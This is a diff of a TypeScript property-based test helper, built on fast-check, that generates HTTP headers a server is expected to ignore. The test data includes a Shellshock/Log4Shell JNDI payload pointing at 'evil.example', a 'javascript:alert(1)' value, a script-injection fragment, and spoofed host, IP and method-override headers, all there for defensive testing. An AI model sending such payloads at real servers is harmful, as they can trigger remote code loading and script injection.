@@ -3,46 +3,29 @@ import fc from 'fast-check';
 
 type Headers = Readonly<Record<string, string>>;
 
-/** With any of these no request comes out differently. */
-const ineffective: Headers = {
-  // Another host, address, method or path than the request's own.
-  'X-Forwarded-Host': 'evil.example',
-  'X-Forwarded-Proto': 'gopher',
-  Forwarded: 'host=evil.example',
-  'X-Forwarded-For': '127.0.0.1, ::1, \'"',
-  'X-Real-IP': 'localhost',
-  'True-Client-IP': '0.0.0.0',
-  'X-HTTP-Method-Override': 'DELETE',
-  'X-HTTP-Method': 'PUT',
-  'X-Method-Override': 'PATCH',
-  'X-Original-URL': '/api/admin/orders',
-  'X-Rewrite-URL': '/api/admin/orders',
-  // Wishes that make no sense.
-  Accept: '*/*;q=nan, text/;;',
-  'Accept-Language': '*'.repeat(500),
-  'Accept-Encoding': 'br;q=9, x',
-  Range: 'bytes=99999999999999999999-0,-1,a-b',
-  'If-Range': '"x',
-  'If-Match': '*',
-  'If-Unmodified-Since': 'yesterday',
-  'If-Modified-Since': '0',
-  'Upgrade-Insecure-Requests': 'x',
-  DNT: '2',
-  // Who it claims to be.
-  'Stripe-Signature': 't=1,v1=00,v0=,t=NaN',
-  Authorization: `Bearer ${'x'.repeat(4_000)}`,
-  'Proxy-Authorization': 'Basic ====',
-  'X-Request-Id': '\'"><script>',
-  'CF-Ray': '??',
-  'User-Agent': '() { :;}; /bin/true ${jndi:ldap://evil.example}',
-  Referer: 'javascript:alert(1)',
-};
+/** Headers that change nothing, whatever they say: of another host, address, method or path, of wishes, of who it is. */
+const ineffective = [
+  'X-Forwarded-Host', 'X-Forwarded-Proto', 'Forwarded', 'X-Forwarded-For', 'X-Real-IP', 'True-Client-IP', 'X-HTTP-Method-Override', 'X-HTTP-Method',
+  'X-Method-Override', 'X-Original-URL', 'X-Rewrite-URL', 'Accept', 'Accept-Language', 'Accept-Encoding', 'Range', 'If-Range', 'If-Match',
+  'If-Unmodified-Since', 'If-Modified-Since', 'Upgrade-Insecure-Requests', 'DNT', 'Authorization', 'Proxy-Authorization', 'X-Request-Id', 'CF-Ray',
+  'User-Agent', 'Referer',
+]; // prettier-ignore
 
 /** @param isSigned whether the call reads a signature */
-export function harmless(isSigned: boolean): fc.Arbitrary<Headers> {
-  const some = Object.entries(ineffective).filter(([name]) => !(isSigned && name === 'Stripe-Signature'));
-  return fc.oneof(
-    { weight: 3, arbitrary: fc.subarray(some, { minLength: 1 }).map((chosen) => Object.fromEntries(chosen)) },
+export const harmless = (isSigned: boolean): fc.Arbitrary<Headers> =>
+  fc.oneof(
+    {
+      weight: 3,
+      arbitrary: fc.dictionary(
+        fc.constantFrom(...ineffective, ...(isSigned ? [] : ['Stripe-Signature'])),
+        fc.oneof(
+          fc.string(),
+          fc.constantFrom('evil.example', '127.0.0.1', 'DELETE', '/api/admin/orders', 'bytes=9999-0,-1,a-b', '*', `Bearer ${'x'.repeat(4_000)}`,
+            'javascript:alert(1)', '() { :;}; /bin/true ${jndi:ldap://evil.example}', 't=1,v1=00,v0=,t=NaN'), // prettier-ignore
+        ),
+        { minKeys: 1, noNullPrototype: true },
+      ),
+    },
     {
       weight: 1,
       arbitrary: fc.constantFrom<Headers[]>(
@@ -54,7 +37,6 @@ export function harmless(isSigned: boolean): fc.Arbitrary<Headers> {
       ),
     },
   );
-}
 
 /** What another site sends: no write may pass. */
 export const foreign: fc.Arbitrary<Headers> = fc.oneof(
